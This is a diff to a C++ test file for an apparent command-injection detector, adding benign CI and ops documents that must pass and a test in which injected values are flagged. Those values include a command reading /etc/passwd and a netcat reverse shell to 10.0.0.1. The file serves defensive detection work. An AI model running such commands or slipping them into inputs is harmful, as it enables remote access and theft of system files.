@@ -2,6 +2,8 @@
 // benign text with the same characters.
 #include <gtest/gtest.h>
 
+#include <string>
+
 #include "libs/detect/test_util.h"
 
 namespace shieldx::detect {
@@ -144,6 +146,73 @@ INSTANTIATE_TEST_SUITE_P(
         "id card|passport",
         // A whole shell script posted to an automation form.
         "#!/bin/sh\nset -x\nlscpu\ncat /proc/cpuinfo | head -n 5\nfdisk -l\n"));
+
+// A value as an issue tracker's form field and as a snippet editor's JSON body.
+std::string JsonQuote(const std::string& s) {
+  std::string o = "\"";
+  for (char c : s) {
+    if (c == '"' || c == '\\') {
+      o += '\\';
+      o += c;
+    } else if (c == '\n') {
+      o += "\\n";
+    } else if (c == '\t') {
+      o += "\\t";
+    } else {
+      o += c;
+    }
+  }
+  return o + "\"";
+}
+Verdict InspectAsForm(const std::string& value) {
+  return testing::Inspect(testing::Post("/tickets/new", "application/x-www-form-urlencoded",
+                                        "title=Issue&description=" + testing::UrlEncode(value)));
+}
+Verdict InspectAsJson(const std::string& value) {
+  return testing::Inspect(testing::Post(
+      "/api/gists", "application/json",
+      "{\"filename\":\"snippet.txt\",\"content\":" + JsonQuote(value) + ",\"public\":false}"));
+}
+
+// CI/ops forms: Dockerfiles and YAML pipelines carry commands by design, like a shebang script.
+class OpsDocumentBenign : public ::testing::TestWithParam<const char*> {};
+TEST_P(OpsDocumentBenign, IsAllowedInFormAndJson) {
+  Verdict f = InspectAsForm(GetParam());
+  EXPECT_FALSE(Flagged(f)) << GetParam() << " -> " << f.explanation;
+  Verdict j = InspectAsJson(GetParam());
+  EXPECT_FALSE(Flagged(j)) << GetParam() << " -> " << j.explanation;
+}
+INSTANTIATE_TEST_SUITE_P(
+    Documents, OpsDocumentBenign,
+    ::testing::Values(
+        "FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt && "
+        "rm -rf /root/.cache\nCMD [\"gunicorn\", \"app:app\"]\n",
+        "- name: Deploy\n  run: |\n    echo \"${{ secrets.KEY }}\" > key.pem\n    chmod 600 "
+        "key.pem\n    scp -i key.pem dist/* deploy@host:/var/www/html/\n",
+        "steps:\n  - run: npm ci\n  - run: npm test -- --coverage\n  - run: ./scripts/deploy.sh "
+        "--env=staging\n",
+        "services:\n  db:\n    image: postgres:16\n    healthcheck:\n      test: [\"CMD-SHELL\", "
+        "\"pg_isready -U postgres\"]\n",
+        "Traceback (most recent call last):\n  File \"/home/ci/app/run.py\", line 12, in <module>\n"
+        "    main()\n  File \"/usr/lib/python3.11/subprocess.py\", line 571, in run\n"
+        "    raise CalledProcessError(retcode, process.args,\n",  // Prose, cron lines and registry
+                                                                  // paths from tickets.
+        "After the deploy I ran `sudo systemctl restart nginx` and then `tail -f "
+        "/var/log/nginx/error.log`, still 502s.",
+        "Fixed it with chmod 600 ~/.ssh/id_rsa, ssh was refusing the key because of permissions",
+        "0 3 * * 1-5", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
+        "reg add HKCU\\Software\\Policies\\Microsoft\\Windows\\Explorer /v "
+        "DisableSearchBoxSuggestions "
+        "/t REG_DWORD /d 1",
+        "set JAVA_HOME=C:\\Program Files\\Java\\jdk-17 and echo %JAVA_HOME% to verify"));
+
+// Two key lines do not make a document; an injection after them is still judged.
+TEST(OpsDocument, ShortYamlPrefixDoesNotExcuseAnInjection) {
+  Verdict v = InspectAsForm("a: b\n;cat /etc/passwd");
+  EXPECT_TRUE(Flagged(v)) << v.explanation;
+  Verdict w = InspectAsForm("name: x\n| nc -e /bin/sh 10.0.0.1 4444");
+  EXPECT_TRUE(HasCategory(w, Category::kCmdi) && Flagged(w)) << w.explanation;
+}
 
 }  // namespace
 }  // namespace shieldx::detect
